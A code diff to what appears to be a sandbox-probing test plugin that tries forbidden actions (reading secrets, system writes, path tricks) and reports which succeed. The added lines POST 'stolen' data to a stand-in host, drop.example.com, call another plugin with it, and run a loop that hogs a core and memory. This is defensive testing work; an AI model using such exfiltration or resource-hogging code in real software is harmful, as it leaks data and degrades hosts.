@@ -9,10 +9,12 @@
 import { attempt, summarise } from "./attempts.js";
 import * as fs from "aether:fs";
 import * as env from "aether:env";
+import * as plugins from "aether:plugins";
 
 /** Everything below, one after the other. */
 export default async function run(_input, ctx) {
-  const parts = [readSecrets, writeSystem, pathTricks, environment, modules, globals];
+  const parts = [readSecrets, writeSystem, pathTricks, environment, modules, globals, others];
+  appetite();
   const attempts = [];
   for (const [i, part] of parts.entries()) {
     ctx.progress(i / parts.length, part.name);
@@ -99,6 +101,22 @@ export async function globals() {
     attempts.push(await attempt(`use the global ${name}`, () => globalThis[name]));
   }
   return summarise(attempts);
+}
+
+/** Other plugins and other machines: where stolen goods would go. */
+export async function others() {
+  return summarise([
+    await attempt("call another plugin", () => plugins.call("hello.hello", { name: "stolen" })),
+    await attempt("send it to a stranger", () => fetch("https://drop.example.com/", { method: "POST", body: "stolen" })),
+  ]);
+}
+
+/** Uses a core and some memory for a while, for no reason. */
+export function appetite() {
+  const until = performance.now() + 400;
+  const eaten = [];
+  while (performance.now() < until) if (eaten.length < 24) eaten.push(new Uint8Array(1 << 20).fill(1));
+  return eaten.length;
 }
 
 /** A path short enough, and without control characters, for a report. */
